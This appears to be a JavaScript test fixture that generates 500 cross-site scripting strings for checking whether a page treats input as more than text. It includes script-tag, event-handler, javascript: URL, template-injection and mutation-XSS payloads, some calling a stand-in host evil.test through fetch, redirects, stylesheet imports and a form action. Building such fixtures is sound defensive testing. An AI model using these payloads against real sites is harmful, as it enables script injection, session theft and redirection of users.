/** Texts that would run, ask for something or break a page that took them for more than text: 500 of them. */
const calls = ['alert(1)', 'confirm(1)', 'prompt(1)', "fetch('//evil.test/1')", "location='//evil.test'"]
const shapes = [
  call => `<script>${call}</script>`,
  call => `<img src=x onerror=${call}>`,
  call => `<svg onload=${call}>`,
  call => `"><script>${call}</script>`,
  call => `'><img src=x onerror="${call}">`,
  call => `</script><script>${call}</script>`,
  call => `</textarea><script>${call}</script>`,
  call => `</title><svg/onload=${call}>`,
  call => `<iframe srcdoc="<script>${call}</script>">`,
  call => `<body onload=${call}>`,
  call => `<a href="javascript:${call}">a</a>`,
  call => `[a](javascript:${call})`,
  call => `![a](x" onerror="${call})`,
  call => `<details open ontoggle=${call}>`,
  call => `<input autofocus onfocus=${call}>`,
  call => `<style>@import '//evil.test/1';</style>${call}`,
  call => `<link rel=stylesheet href=//evil.test/${encodeURIComponent(call)}>`,
  call => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  call => `<object data="javascript:${call}">`,
  call => `<form action=//evil.test><button autofocus>${call}</form>`,
  call => `{{constructor.constructor('${call}')()}}`,
  call => `\${${call}}`,
  call => `<!--><script>${call}</script>-->`,
  call => `<math><mtext></p><svg onload=${call}>`,
  call => `\u202e<img src=x onerror=${call}>`,
]
const frames = [
  text => text,
  text => `1 + 1 = ${text}`,
  text => text.toUpperCase(),
  text => `${text}\n${text.slice(0, 9)}`,
]

export const hostile = shapes.flatMap(shape => calls.flatMap(call => frames.map(frame => frame(shape(call)))))
